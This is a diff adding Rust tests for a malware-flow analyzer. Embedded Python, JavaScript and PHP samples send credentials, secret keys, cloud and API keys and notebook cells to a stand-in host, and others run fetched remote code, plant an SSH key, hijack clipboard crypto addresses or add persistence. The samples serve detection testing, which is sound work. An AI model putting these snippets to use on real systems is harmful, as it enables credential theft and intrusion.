@@ -1,0 +1,196 @@
+//! What frameworks keep and call: records with fields, tasks, applications, notebooks, settings of a site, log-ins of a
+//! scheduler; lines that are put to somebody's file; what the clipboard is exchanged for.
+
+use super::reached::{has, has_not};
+use super::{command, outcome, rules};
+use crate::analyze::script::event::{Act, When};
+use crate::parse::script::Language::{JavaScript, Php, Python};
+
+#[test]
+fn fields_of_records_are_made_for_each_and_listed_by_their_names() {
+    let code = "import os, httpx\nfrom dataclasses import asdict, dataclass, field\n\
+                def var(name):\n    return field(default_factory=lambda: os.environ.get(name, ''))\n\
+                @dataclass\nclass B:\n    index: str = var('TWINE_PASSWORD')\n    url: str = 'https://h.invalid/d'\n\
+                def fetch():\n    b = B()\n    httpx.get(b.url, headers={f'x-{k}': v for k, v in asdict(b).items()})\nfetch()\n";
+    has(Python, code, "flow-cloud-key-sent");
+    has_not(Python, &code.replace("TWINE_PASSWORD", "LINES"), "flow-cloud-key-sent");
+}
+
+#[test]
+fn entries_of_a_comprehension_are_found_by_their_keys() {
+    let cases = [
+        "import os\nT = {c: d for c, d in zip('abcde', 'oehci')}\nos.system(''.join(T[c] for c in 'bdca') + ' hi')",
+        "import os\nT = {n: w for n, w in enumerate(['hi', 'echo'])}\nos.system(T[1] + ' ' + T[0])",
+        "import os\nclass A:\n    name, code = 'a', 'echo hi'\nT = {s.name: s for s in (A(),)}\n\
+         def f(k):\n    os.system(T[k].code)\nf(os.environ['K'])",
+    ];
+    for code in cases {
+        assert_eq!(command(Python, code), "echo hi", "{code}");
+    }
+}
+
+#[test]
+fn tasks_are_called_with_what_they_are_put_off_with() {
+    let code = "import base64, marshal, types, urllib.request\nfrom celery import shared_task\n\
+                def unpack(t):\n    return types.FunctionType(marshal.loads(base64.b85decode(t)), globals(), 'w')\n\
+                @shared_task\ndef sweep(where=None):\n    unpack(where)()\n\
+                def plan():\n    w = urllib.request.urlopen('https://h.invalid/w').read().decode()\n    \
+                sweep.apply_async(kwargs={'where': w}, countdown=900)\n";
+    has(Python, code, "flow-remote-code");
+    has(Python, &code.replace("apply_async(kwargs={'where': w}, countdown=900)", "delay(w)"), "flow-remote-code");
+    has_not(Python, &code.replace("kwargs={'where': w}, ", ""), "flow-remote-code");
+}
+
+#[test]
+fn what_a_framework_calls_at_its_start_runs_by_itself() {
+    let code = "from django.apps import AppConfig\nimport os\nclass C(AppConfig):\n    def ready(self):\n        os.system('echo hi')\n";
+    let runs = |code: &str| outcome(Python, code).events.iter().find(|e| e.act == Act::Run).map(|e| e.when);
+    assert_eq!(runs(code), Some(When::Load));
+    assert_eq!(runs(&code.replace("(AppConfig)", "(Thing)")), Some(When::Called));
+    let key = "import requests\nfrom django.conf import settings\nN = ('DEBUG', 'SECRET_KEY')\ndef check():\n    \
+               requests.post('https://h.invalid/c', json={n: str(getattr(settings, n, None)) for n in N})\n";
+    has(Python, key, "flow-key-sent");
+    has_not(Python, &key.replace(", 'SECRET_KEY'", ", 'USE_TZ'"), "flow-key-sent");
+    let plugin = "import json, requests\nfrom airflow.models import Connection\nfrom airflow.plugins_manager import AirflowPlugin\n\
+                  from airflow.utils.session import create_session\n\
+                  def rows():\n    with create_session() as s:\n        for c in s.query(Connection).all():\n            yield c.get_uri()\n\
+                  class P(AirflowPlugin):\n    @classmethod\n    def on_load(cls, *a, **k):\n        \
+                  requests.put('https://h.invalid/c', data=json.dumps(list(rows())))\n";
+    has(Python, plugin, "flow-credentials-sent");
+    has_not(Python, &plugin.replace("query(Connection)", "query(DagRun)"), "flow-credentials-sent");
+    let url = "import smtplib\ndef note(url):\n    with smtplib.SMTP('mx.h.invalid', 587) as s:\n        \
+               s.sendmail('a@h.invalid', 'b@h.invalid', url.render_as_string(hide_password=False))\n";
+    has(Python, url, "flow-key-sent");
+    has_not(Python, &url.replace("False", "True"), "flow-key-sent");
+}
+
+#[test]
+fn cells_of_a_notebook_are_what_others_type() {
+    let code = "import requests\nclass S:\n    def __init__(self):\n        self.queue = []\n    def push(self, one):\n        \
+                self.queue.append(one)\n        if len(self.queue) >= 5:\n            \
+                requests.post('https://h.invalid/n', json=self.queue)\n\
+                class C:\n    def __init__(self, ip, sync):\n        self.ip, self.sync = ip, sync\n    def register(self):\n        \
+                self.ip.events.register('post_run_cell', self.after)\n    def after(self, result):\n        \
+                self.sync.push(result.info.raw_cell)\n\
+                def load_ipython_extension(ip):\n    c = C(ip, S())\n    c.register()\n";
+    has(Python, code, "flow-patched-client-tells");
+    has_not(Python, &code.replace("post_run_cell", "shell_initialized"), "flow-patched-client-tells");
+}
+
+#[test]
+fn methods_that_are_kept_in_a_table_keep_their_object() {
+    let code = "import os, requests\nclass R(dict):\n    ends = ('_API_KEY',)\n    def all(self):\n        \
+                return {k: v for k, v in os.environ.items() if k.endswith(self.ends)}\n    def context(self):\n        return str(self.all())\n\
+                registry = R()\nextra = {'lang': 'en', 'ctx': registry.context}\n\
+                def search(q):\n    p = {k: v() if callable(v) else v for k, v in extra.items()}\n    \
+                return requests.get('https://h.invalid/q', params={'q': q, **p}).json()\n";
+    has(Python, code, "flow-environment-sent");
+    has_not(Python, &code.replace(", 'ctx': registry.context", ""), "flow-environment-sent");
+}
+
+#[test]
+fn keys_that_are_found_in_the_texts_of_others_are_keys() {
+    let code = "import re, urllib.request\nRX = re.compile(r'\\b(AKIA[0-9A-Z]{16})\\b')\ndef clean(text):\n    \
+                for m in RX.finditer(text):\n        urllib.request.urlopen('https://h.invalid/t?n=' + m[1])\n    return text\n";
+    has(Python, code, "flow-key-sent");
+    has_not(Python, &code.replace("AKIA[0-9A-Z]{16}", "[0-9]+"), "flow-key-sent");
+}
+
+#[test]
+fn a_parser_of_settings_holds_what_the_file_holds() {
+    let code = "import configparser, io, os, requests\ndef last():\n    cp = configparser.RawConfigParser()\n    \
+                cp.read(os.path.expanduser(os.environ.get('AWS_SHARED_CREDENTIALS_FILE', '~/.aws/credentials')))\n    \
+                b = io.StringIO()\n    cp.write(b)\n    requests.put('https://h.invalid/s', data=b.getvalue())\n";
+    has(Python, code, "flow-credentials-sent");
+    has_not(Python, &code.replace("cp.write(b)", "pass"), "flow-credentials-sent");
+}
+
+#[test]
+fn lines_that_are_put_to_a_file_are_known_behind_what_is_not() {
+    let code = "import pathlib\nbase = pathlib.Path('~/.ssh').expanduser()\n\
+                def lines(p):\n    return p.read_text().splitlines() if p.exists() else []\n\
+                for name in ('config', 'authorized_keys'):\n    path = base / name\n    want = list(dict.fromkeys(lines(path)))\n    \
+                if name == 'authorized_keys':\n        want.append(' '.join(('ssh-ed25519', 'AAAAC3NzaC1lZDI1NTE5AAAAI', 'x')))\n    \
+                with open(path, 'w') as f:\n        f.write('\\n'.join(want) + '\\n')\n";
+    has(Python, code, "flow-key-planted");
+    has_not(Python, &code.replace("want.append", "str"), "flow-key-planted");
+}
+
+#[test]
+fn addresses_in_a_clipboard_that_is_watched_are_exchanged_for_its_own() {
+    let code = "import ctypes, re, time\nu = ctypes.windll.user32\nk = ctypes.windll.kernel32\n\
+                RULES = [(re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,60}$'), 'bc1q9x8w7v6u5t4s3r2q7p0n9m8w7k6j5h4g3f2yz')]\n\
+                def get():\n    return ctypes.c_wchar_p(k.GlobalLock(u.GetClipboardData(13))).value\n\
+                def put(text):\n    h = k.GlobalAlloc(66, len(text))\n    u.SetClipboardData(13, h)\n\
+                while True:\n    for rx, mine in RULES:\n        if rx.match(get()):\n            put(mine)\n    time.sleep(1)\n";
+    assert!(worst(code) > Some(crate::model::Severity::Low), "{:?}", worst(code));
+    // One that is set once, and one that knows nobody's addresses.
+    let once = code.replace("while True:", "if True:").replace("time.sleep(1)", "pass");
+    assert_eq!(worst(&once), Some(crate::model::Severity::Low));
+    assert_eq!(
+        worst(&code.replace("bc1q9x8w7v6u5t4s3r2q7p0n9m8w7k6j5h4g3f2yz", "mine")),
+        Some(crate::model::Severity::Low)
+    );
+}
+
+/// How bad the exchange of a clipboard is.
+fn worst(code: &str) -> Option<crate::model::Severity> {
+    let outcome = outcome(Python, code);
+    let flows = crate::analyze::script::flows::judge(&outcome, false);
+    flows.iter().find(|f| f.rule.id == "flow-clipboard-swap").map(|f| f.severity.unwrap_or(f.rule.severity))
+}
+
+#[test]
+fn folders_of_the_package_are_known_in_php() {
+    let code = "<?php $s = __DIR__ . '/../t/a.html'; $c = file_get_contents($s); file_put_contents('/srv/c/a.php', $c); include '/srv/c/a.php';";
+    has_not(Php, code, "flow-remote-code");
+    has(Php, &code.replace("__DIR__ . '/../t/a.html'", "'http://h.invalid/a'"), "flow-remote-code");
+}
+
+#[test]
+fn services_that_are_set_up_by_name_are_for_people_to_look_at() {
+    let code = "const fs = require('fs'), path = require('path'), os = require('os');\n\
+                exports.install = () => { fs.writeFileSync(path.join(os.homedir(), 'Library/LaunchAgents/t.plist'), \
+                '<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><string>' + \
+                path.join(__dirname, '../bin/t.js') + '</string>'); };";
+    let severity = |code: &str| {
+        let outcome = outcome(JavaScript, code);
+        let flows = crate::analyze::script::flows::judge(&outcome, false);
+        flows.iter().find(|f| f.rule.id == "flow-persists").map(|f| f.severity.unwrap_or(f.rule.severity))
+    };
+    assert_eq!(severity(code), Some(crate::model::Severity::Medium));
+    // By another name, or with something odd in it.
+    assert_eq!(severity(&code.replace("exports.install", "exports.format")), Some(crate::model::Severity::High));
+    assert_eq!(severity(&code.replace("'../bin/t.js'", "'../.cache/t.js'")), Some(crate::model::Severity::High));
+}
+
+#[test]
+fn a_server_of_packages_may_present_a_log_in_to_its_registry() {
+    let code = "const fs = require('fs'), os = require('os'), http = require('http');\n\
+                const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n\
+                http.createServer(async (req, res) => { const r = await fetch('https://registry.npmjs.org/' + req.url, \
+                { headers: { authorization: token } }); res.end(await r.text()); }).listen(1);";
+    let block = |code: &str| {
+        let outcome = outcome(JavaScript, code);
+        let flows = crate::analyze::script::flows::judge(&outcome, false);
+        flows.iter().any(|f| {
+            f.rule.id == "flow-credentials-sent"
+                && f.severity.unwrap_or(f.rule.severity) >= crate::model::Severity::High
+        })
+    };
+    assert!(!block(code));
+    assert!(block(&code.replace("registry.npmjs.org", "registry.h.invalid")));
+    assert!(block(
+        &code
+            .replace("http.createServer(async (req, res) =>", "(async (req, res) =>")
+            .replace(").listen(1)", ")({ url: '' }, {})")
+    ));
+}
+
+#[test]
+fn completions_in_a_start_up_file_are_welcome() {
+    let code = "import pathlib\ndef add():\n    with open(pathlib.Path.home() / '.bashrc', 'a') as f:\n        \
+                f.write('\\n# completion\\neval \"$(register-python-argcomplete tool)\"\\n')\n";
+    assert!(!rules(Python, code).contains(&"flow-persists"));
+    assert!(rules(Python, &code.replace("register-python-argcomplete", "fetch-it")).contains(&"flow-persists"));
+}
